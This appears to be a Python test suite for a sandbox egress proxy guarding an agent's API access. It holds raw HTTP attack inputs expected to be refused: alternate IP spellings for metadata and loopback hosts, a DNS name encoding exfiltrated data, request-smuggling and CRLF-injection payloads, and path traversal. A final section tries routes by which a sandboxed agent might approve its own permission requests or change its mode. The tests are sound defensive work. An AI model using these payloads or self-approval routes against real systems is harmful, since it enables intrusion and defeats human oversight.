"""Through the egress door: hosts that are not allowed in every spelling, requests within requests, and the gateway's own doors.

Each request goes to the relay as it stands here, for what a client of HTTP would never send is half of it.
"""
import base64
import json
import os
import re

from wall import connected

RELAY = ("127.0.0.1", 3128)
TOKEN = os.environ.get("ANTHROPIC_AUTH_TOKEN", "")
VERSION = "Anthropic-Version: 2023-06-01"
# Seconds without a word after which an open connection has said all.
QUIET = 5
# In what must reach nobody. In two pieces, so that no listing of this program holds it.
MARK = "smug" + "gled"

BLOCKED = (403, "HOST_BLOCKED")
BAD = (400, "BAD_REQUEST")
NOT_FOUND = (404, "NOT_FOUND")
# An address in each way that some program reads one, and a name beside its port.
SPELLINGS = {
    "127.0.0.1:22": BLOCKED,
    "[::1]:22": BLOCKED,
    "[::ffff:127.0.0.1]:22": BLOCKED,
    "169.254.169.254:80": BLOCKED,
    "10.0.0.1:443": BLOCKED,
    "172.17.0.1:80": BLOCKED,
    "0x7f000001:80": BAD,
    "2130706433:80": BAD,
    "127.1:80": BAD,
    "allowed.example:25": BLOCKED,
    "allowed.example.:443": BAD,
    "agent@allowed.example:443": BAD,
}


def attempts(job):
    return {**spellings(), **tunnelled_names(), **strangers(), **at_home(job), **smuggled(), **own_answers(job)}


def spellings():
    return {f"a tunnel to {authority}": answers(tunnel(authority), *expected) for authority, expected in SPELLINGS.items()}


def tunnelled_names():
    """What a name could carry out, if it were looked up before it is allowed."""
    told = ".".join(["6c656b" * 10] * 3)
    return {
        "a name that carries something out": answers(tunnel(f"{told}.leak.example:443"), *BLOCKED),
        "a name that is too long": answers(tunnel(f"{'a' * 64}.leak.example:443"), *BAD),
    }


def strangers():
    wrong = "lanyard-sandbox-guess"
    return {
        "a tunnel without a token": answers(tunnel("allowed.example:443", token=None), 407, "BAD_SANDBOX_TOKEN"),
        "a tunnel with a wrong token": answers(tunnel("allowed.example:443", token=wrong), 403, "BAD_SANDBOX_TOKEN"),
        "the model with a wrong token": answers(request("GET", "/v1/models", token=wrong), 401, "BAD_SANDBOX_TOKEN"),
        "a credential's host with a wrong token": answers(
            request("GET", "/host/allowed.example/", token=wrong), 403, "BAD_SANDBOX_TOKEN"
        ),
    }


def at_home(job):
    """A rule lets localhost out, without the word private: a name that leads home, as one that is bound anew would."""
    owner, public = job["ports"]["owner"], job["ports"]["public"]
    return {
        "a tunnel to a name that leads home": answers(tunnel(f"localhost:{owner}"), *BLOCKED),
        "a request to a name that leads home": answers(proxied("GET", f"http://localhost:{owner}/"), *BLOCKED),
        "a request by the door to a name that leads home": answers(request("GET", f"/host/localhost:{owner}/"), *BLOCKED),
        "a request to the gateway's public door": answers(proxied("GET", f"http://127.0.0.1:{public}/api/status"), *BLOCKED),
        "the model past the meter": answers(tunnel(f"127.0.0.1:{job['ports']['model']}"), *BLOCKED),
    }


def smuggled():
    """A second request in the shadow of a first. It has no token: were it taken for a part of the first, it would need none."""
    second = with_body(head("POST", "/v1/messages", VERSION), {MARK: 1})
    post, close = head("POST", "/v1/messages", api_key(), VERSION), "Connection: close"
    chunks = f"0\r\n\r\n{second}"
    return {
        "a request with two lengths": no_yes(f"{post}Content-Length: 5\r\nContent-Length: {len(second)}\r\n\r\n{second}"),
        "a request with a length and chunks": no_yes(f"{post}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n{chunks}"),
        "a request with chunks and a length": no_yes(f"{post}Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n{chunks}"),
        "a request whose chunks are not last": no_yes(f"{post}Transfer-Encoding: chunked, identity\r\n\r\n{chunks}"),
        "a folded header": no_yes(f"{head('GET', '/v1/models')}X-Api-Key:\r\n {TOKEN}\r\n{close}\r\n\r\n"),
        "a space before a colon": no_yes(f"{post}Content-Length : {len(second)}\r\n\r\n{second}"),
        "a line end within a value": no_yes(f"{head('GET', '/v1/models')}X-One: a\rX-Api-Key: {TOKEN}\r\n\r\n"),
        "lines that end with a line feed alone": no_yes(
            head("CONNECT", f"{MARK}.example:443", proxy_token()).replace("\r\n", "\n") + "\n"
        ),
        "a tunnel with a body": no_yes(
            f"{head('CONNECT', f'{MARK}.example:443', proxy_token())}Content-Length: {len(second)}\r\n\r\n{second}"
        ),
        "a second request without a token": says(
            [200, 401],
            f"{head('GET', '/v1/models', api_key(), VERSION)}\r\n{head('GET', '/v1/models', close)}\r\n",
        ),
        "a line end in a path": no_yes(f"{head('GET', '/v1/models/x%0d%0aX-Api-Key:%20y', api_key(), close)}\r\n"),
        "a line end in the name of a host": no_yes(tunnel("allowed.example%0d%0aHost:%20evil.example:443")),
        "a line end in the path at a host": answers(request("GET", "/host/allowed.example/x%0d%0aHost:%20y"), *BAD),
        "a step up in the path at a host": answers(request("GET", "/host/allowed.example/a/%2e%2e/b"), *BAD),
    }


def own_answers(job):
    """The routes by which an owner answers and changes things, asked of the one door that a sandbox reaches."""
    answer = {"decision": "allow", "input_hash": job["approval"]["hash"], "hash": job["approval"]["hash"]}
    routes = {
        "answering its own question as a phone": ("POST", f"/api/permission/{job['approval']['id']}"),
        "answering its own question as the owner": ("POST", f"/approvals/{job['approval']['id']}"),
        "pairing a phone of its own": ("POST", "/api/pair"),
        "setting its own mode": ("POST", "/mode"),
        "another key for the owner": ("PUT", "/accounts/anthropic"),
        "other settings": ("PATCH", "/settings"),
    }
    at_the_door = {name: answers(request(*route, body=answer), *NOT_FOUND) for name, route in routes.items()}
    public = f"http://127.0.0.1:{job['ports']['public']}/api/permission/{job['approval']['id']}"
    return {**at_the_door, "answering its own question through the proxy": answers(proxied("POST", public, answer), *BLOCKED)}


def api_key(token=TOKEN):
    return f"X-Api-Key: {token}"


def proxy_token(token=TOKEN):
    return "Proxy-Authorization: Basic " + base64.b64encode(f"lanyard:{token}".encode()).decode()


def head(method, target, *headers):
    """Without the empty line that ends it."""
    return "".join(f"{line}\r\n" for line in (f"{method} {target} HTTP/1.1", "Host: a", *headers))


def tunnel(authority, token=TOKEN):
    headers = [] if token is None else [proxy_token(token)]
    return head("CONNECT", authority, *headers, "Connection: close") + "\r\n"


def request(method, path, token=TOKEN, body=None):
    return with_body(head(method, path, api_key(token), "Connection: close"), body)


def proxied(method, url, body=None):
    return with_body(head(method, url, proxy_token(), "Connection: close"), body)


def with_body(begun, body):
    text = "" if body is None else json.dumps(body)
    return f"{begun}Content-Type: application/json\r\nContent-Length: {len(text)}\r\n\r\n{text}"


def heard(words):
    """All that comes back, until the far side ends it or has nothing more to say."""
    said = b""
    with connected(RELAY) as connection:
        connection.settimeout(QUIET)
        try:
            connection.sendall(words.encode("latin-1"))
            while piece := connection.recv(65536):
                said += piece
        except (TimeoutError, ConnectionError):
            pass
    return said.decode("latin-1")


def statuses(said):
    return [int(status) for status in re.findall(r"HTTP/1\.1 (\d{3}) ", said)]


def answers(words, status, code):
    """Holds where the one answer has this status and code."""

    def attempt():
        said = heard(words)
        codes = re.findall(r"(?im)^x-lanyard-code: (\S+)", said)
        return (statuses(said), codes) == ([status], [code]), said

    return attempt


def says(expected, words):
    def attempt():
        said = heard(words)
        return statuses(said) == expected, said

    return attempt


def no_yes(words):
    """Holds where every answer is a refusal, or there is none; what must reach nobody is looked for outside."""

    def attempt():
        said = heard(words)
        return all(400 <= status < 500 for status in statuses(said)), said

    return attempt
